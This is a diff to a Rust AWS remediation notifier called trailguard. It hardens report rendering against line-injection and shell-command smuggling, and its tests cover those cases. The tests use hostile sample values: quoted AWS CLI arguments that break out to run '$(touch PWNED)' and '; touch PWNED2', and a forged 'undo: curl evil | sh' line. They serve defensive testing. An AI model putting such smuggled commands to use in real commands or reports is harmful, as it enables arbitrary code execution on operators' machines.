@@ -135,15 +135,17 @@ fn defang_line(line: &str) -> String {
     out
 }
 
-/// Whether a command can stand in the text part exactly as it is: one line that making it
-/// inert leaves unchanged (no bracket, link, mention or formatting character, not cut).
-/// Otherwise what a reader pasted would not be the command (an escaped bracket breaks its
-/// JSON; a line cut inside a quoted policy lets the next line run as shell code), so the
-/// text points to the JSON part, which has it exactly.
-fn pastes_as_is(command: &str) -> bool {
-    !command.contains(['\n', '\r'])
-        && command.chars().count() + 16 <= MAX_LINE
-        && defang_line(command) == command
+/// A value from an event on one line of the text: a line break in a name must not start a
+/// line that reads as trailguard's own (`      undo: …`, `What trailguard did:`).
+fn one_line(s: &str) -> String {
+    s.replace(['\n', '\r', '\u{85}', '\u{2028}', '\u{2029}'], " ")
+}
+
+/// Whose actions a text lists: the account they were done in, and in a sweep's message the
+/// finding they belong to (counting from 1).
+struct Whose<'a> {
+    account: Option<&'a str>,
+    finding: Option<usize>,
 }
 
 /// At most `max` bytes of `s`, cut at a line end or a character boundary.
@@ -192,18 +194,31 @@ pub fn inert_json(v: &Value) -> String {
 }
 
 fn cut_strings(v: &Value) -> Value {
+    cut_strings_at(v, MAX_JSON_STRING)
+}
+
+/// An undo command is kept whole up to this many characters: people run it from here, so a
+/// cut one would be a different command. (The largest resource policy AWS takes is 32 KB.)
+const MAX_UNDO_COMMAND: usize = 64 * 1024;
+
+fn cut_strings_at(v: &Value, max: usize) -> Value {
     match v {
-        Value::String(s) if s.chars().count() > MAX_JSON_STRING => {
-            let kept: String = s.chars().take(MAX_JSON_STRING).collect();
+        Value::String(s) if s.chars().count() > max => {
+            let kept: String = s.chars().take(max).collect();
             Value::String(format!(
                 "{kept}… [cut: {} more characters]",
-                s.chars().count() - MAX_JSON_STRING
+                s.chars().count() - max
             ))
         }
-        Value::Array(a) => Value::Array(a.iter().map(cut_strings).collect()),
-        Value::Object(o) => {
-            Value::Object(o.iter().map(|(k, v)| (k.clone(), cut_strings(v))).collect())
-        }
+        Value::Array(a) => Value::Array(a.iter().map(|x| cut_strings_at(x, max)).collect()),
+        Value::Object(o) => Value::Object(
+            o.iter()
+                .map(|(k, x)| {
+                    let max = if k == "undo" { MAX_UNDO_COMMAND } else { max };
+                    (k.clone(), cut_strings_at(x, max))
+                })
+                .collect(),
+        ),
         other => other.clone(),
     }
 }
@@ -248,7 +263,7 @@ fn human(report: &Report) -> (String, String) {
     let e = report.event.clone().unwrap_or_default();
     let or_q = |v: &Option<String>| v.clone().unwrap_or_else(|| "?".into());
     let mut b = String::new();
-    b.push_str(&format!("{title}\n\n"));
+    b.push_str(&format!("{}\n\n", one_line(title)));
     if failed {
         // Raw SNS deliveries (chat, queues) lose the subject: the body says it too.
         b.push_str(
@@ -258,19 +273,29 @@ fn human(report: &Report) -> (String, String) {
     }
     b.push_str(&format!(
         "What happened: {} ({})\n",
-        e.name,
-        or_q(&e.source)
+        one_line(&e.name),
+        one_line(&or_q(&e.source))
     ));
-    b.push_str(&format!("Who:           {}\n", or_q(&e.actor)));
-    b.push_str(&format!("From:          {}\n", or_q(&e.source_ip)));
-    b.push_str(&format!("When:          {}\n", or_q(&e.time)));
+    b.push_str(&format!("Who:           {}\n", one_line(&or_q(&e.actor))));
+    b.push_str(&format!(
+        "From:          {}\n",
+        one_line(&or_q(&e.source_ip))
+    ));
+    b.push_str(&format!("When:          {}\n", one_line(&or_q(&e.time))));
     b.push_str(&format!(
         "Where:         account {}, {}\n",
-        or_q(&e.account),
-        or_q(&e.region)
+        one_line(&or_q(&e.account)),
+        one_line(&or_q(&e.region))
     ));
-    b.push_str(&format!("Why:           {}\n", report.reason));
-    plan_and_details(&mut b, report);
+    b.push_str(&format!("Why:           {}\n", one_line(&report.reason)));
+    plan_and_details(
+        &mut b,
+        report,
+        &Whose {
+            account: e.account.as_deref(),
+            finding: None,
+        },
+    );
     b.push_str(
         "\nTo undo a remediation by hand, see trailguard's docs, \"Rolling back a remediation by hand\" (docs/src/rollback.md).\n",
     );
@@ -279,7 +304,7 @@ fn human(report: &Report) -> (String, String) {
 
 /// What was done (or would be) and the notice's details: the part of a report an event's
 /// message and a sweep's finding share.
-fn plan_and_details(b: &mut String, report: &Report) {
+fn plan_and_details(b: &mut String, report: &Report, whose: &Whose) {
     let dry = report.is_dry_run();
     if !report.actions.is_empty() {
         b.push_str(if dry {
@@ -295,38 +320,40 @@ fn plan_and_details(b: &mut String, report: &Report) {
                 None => "planned",
             };
             let what = a.target.clone().unwrap_or_else(|| a.action.describe());
-            b.push_str(&format!("  - {what}: {outcome}"));
+            b.push_str(&format!("  - {}: {outcome}", one_line(&what)));
             // A dry-run note repeats the target ("would ..."); others (the breaker's) add to it.
             if let Some(n) = a
                 .note
                 .as_ref()
                 .filter(|_| a.outcome != Some(Status::DryRun) || !dry)
             {
-                b.push_str(&format!(" ({n})"));
+                b.push_str(&format!(" ({})", one_line(n)));
             }
             if let Some(err) = &a.error {
-                b.push_str(&format!("\n      error: {}", err.message));
+                b.push_str(&format!("\n      error: {}", one_line(&err.message)));
             }
-            // What undoes it (only for a step proved done), and where to look at it.
+            // What undoes it (only for a step proved done), and where to look at it. The
+            // command itself is never in the text: making the text inert would change it (an
+            // escaped bracket breaks its JSON, a line cut inside a quoted policy would run the
+            // next line as shell code, a Markdown reader drops backslashes). The JSON part
+            // has it exactly, read with a JSON reader.
             match &a.undo {
-                Some(Undo::Command(c)) if pastes_as_is(c) => {
-                    b.push_str(&format!("\n      undo: {c}"))
-                }
                 Some(Undo::Command(_)) => b.push_str(&format!(
-                    "\n      undo: the exact command is in the JSON report below (action {}, undo.command)",
+                    "\n      undo: the exact command is {}action {}'s undo.command in the JSON report below, counting from 1 (read it with a JSON reader, not from the escaped text)",
+                    whose.finding.map(|k| format!("finding {k}'s ")).unwrap_or_default(),
                     i + 1
                 )),
-                Some(Undo::None(why)) => b.push_str(&format!("\n      undo: none ({why})")),
+                Some(Undo::None(why)) => {
+                    b.push_str(&format!("\n      undo: none ({})", one_line(why)))
+                }
                 None => {}
             }
             if let Some(l) = &a.console {
                 // The console opens the page in the account one is signed in to.
-                let account = report
-                    .event
-                    .as_ref()
-                    .and_then(|e| e.account.as_deref())
-                    .unwrap_or("?");
-                b.push_str(&format!("\n      console (account {account}): {l}"));
+                b.push_str(&format!(
+                    "\n      console (account {}): {l}",
+                    one_line(whose.account.unwrap_or("?"))
+                ));
             }
             b.push('\n');
         }
@@ -334,7 +361,7 @@ fn plan_and_details(b: &mut String, report: &Report) {
     if let Some(n) = report.notice.as_ref().filter(|n| !n.details.is_empty()) {
         b.push_str("\nDetails:\n");
         for d in &n.details {
-            b.push_str(&format!("  - {d}\n"));
+            b.push_str(&format!("  - {}\n", one_line(d)));
         }
     }
     for a in &report.actions {
@@ -415,14 +442,21 @@ pub fn render_sweep(r: &SweepReport) -> (String, String) {
         )),
         (None, _) => b.push_str("Finished:   every resource listed\n"),
     }
-    for f in &r.findings {
+    for (k, f) in r.findings.iter().enumerate() {
         b.push_str(&format!(
             "\n== {} {}: {}\n",
             f.kind.name(),
-            f.resource,
-            f.report.reason
+            one_line(&f.resource),
+            one_line(&f.report.reason)
         ));
-        plan_and_details(&mut b, &f.report);
+        plan_and_details(
+            &mut b,
+            &f.report,
+            &Whose {
+                account: r.account.as_deref(),
+                finding: Some(k + 1),
+            },
+        );
     }
     let mut body = bounded(&defang(&b), MAX_HUMAN);
     body.push_str("\n--- report (JSON) ---\n");
@@ -661,54 +695,67 @@ mod tests {
         r.actions[0].undo = Some(Undo::Command(
             "aws ec2 authorize-security-group-ingress --group-id sg-0a1b2c3d4e5f60789".into(),
         ));
-        let (_, body) = render(&r);
-        let (human, json) = body.split_once("--- report (JSON) ---\n").unwrap();
-        // The text part: the undo command, and the link made inert like every other.
-        assert!(
-            human.contains(
-                "\n      undo: aws ec2 authorize-security-group-ingress --group-id sg-0a1b2c3d4e5f60789"
-            ),
-            "{human}"
-        );
-        assert!(
-            human.contains("console (account 123456789012): hxxps://"),
-            "{human}"
-        );
-        assert!(!human.contains("https://"), "{human}");
-        // The JSON part: the live link.
-        let v: Value = serde_json::from_str(json).unwrap();
-        assert_eq!(v["actions"][0]["console"], live.as_str());
-        // A command that making it inert would change is never printed changed: the text
-        // points to the JSON part, which has it exactly. Brackets (a group's permissions), a
-        // policy over several lines with a quote where a line would be cut (what follows
-        // would run as shell code when pasted), a command longer than a line.
+        // The command is never in the text, whatever it is: the text says where the exact
+        // one is, and the JSON part has it byte for byte, read with a JSON reader. A plain
+        // one, brackets (a group's permissions), a policy over several lines with a quote
+        // where a line would be cut, a backslash a Markdown reader drops, 3 KB.
         let quote_at_400 = format!(
             "aws kms put-key-policy --key-id k --policy '{{\n  \"{}'\\''B\",\n  \"$(touch PWNED)\"\n}}'",
             "A".repeat(380)
         );
         for command in [
+            "aws ec2 authorize-security-group-ingress --group-id sg-0a1b2c3d4e5f60789".to_string(),
             r#"aws ec2 authorize-security-group-ingress --group-id sg-1 --ip-permissions '[{"IpProtocol":"tcp"}]'"#.to_string(),
             quote_at_400,
-            format!("aws sqs set-queue-attributes --queue-url q --attributes Policy={}", "x".repeat(500)),
-            "aws sqs tag-queue --queue-url https://sqs.us-east-1.amazonaws.com/1/q --tags a=b".to_string(),
+            r#"aws sqs tag-queue --queue-url q --tags 'a=x'\''; touch PWNED2; echo '\'''"#.to_string(),
+            format!("aws sqs set-queue-attributes --queue-url q --attributes Policy={}", "x".repeat(3000)),
         ] {
             r.actions[0].undo = Some(Undo::Command(command.clone()));
             let (_, body) = render(&r);
             let (human, json) = body.split_once("--- report (JSON) ---\n").unwrap();
             assert!(
                 human.contains(
-                    "undo: the exact command is in the JSON report below (action 1, undo.command)"
+                    "undo: the exact command is action 1's undo.command in the JSON report below, counting from 1"
                 ),
                 "{human}"
             );
-            assert!(!human.contains("PWNED") && !human.contains("put-key-policy"), "{human}");
+            assert!(
+                !human.contains("PWNED")
+                    && !human.contains("--group-id")
+                    && !human.contains("--queue-url"),
+                "{human}"
+            );
+            // The link, inert in the text, names its account; live in the JSON.
+            assert!(
+                human.contains("console (account 123456789012): hxxps://"),
+                "{human}"
+            );
+            assert!(!human.contains("https://"), "{human}");
             let v: Value = serde_json::from_str(json).unwrap();
             assert_eq!(v["actions"][0]["undo"]["command"], command.as_str());
+            assert_eq!(v["actions"][0]["console"], live.as_str());
         }
+        // A line break in a value from the event cannot start a line of trailguard's own.
+        r.actions[0].undo = Some(Undo::None("x\n      undo: curl evil | sh".into()));
+        r.actions[0].note = Some("n\r\nWhat trailguard did:".into());
+        let (_, body) = render(&r);
+        let (human, _) = body.split_once("--- report (JSON) ---\n").unwrap();
+        assert!(
+            human
+                .lines()
+                .all(|l| !l.trim_start().starts_with("undo: curl")
+                    && !l.starts_with("What trailguard did: ")),
+            "{human}"
+        );
         // Not done: no undo line.
         r.actions[0].outcome = Some(Status::AlreadyDone);
         r.actions[0].undo = None;
-        assert!(!render(&r).1.contains("undo: aws"));
+        let (_, body) = render(&r);
+        assert!(!body
+            .split("--- report (JSON) ---")
+            .next()
+            .unwrap()
+            .contains("undo:"));
     }
 
     #[test]
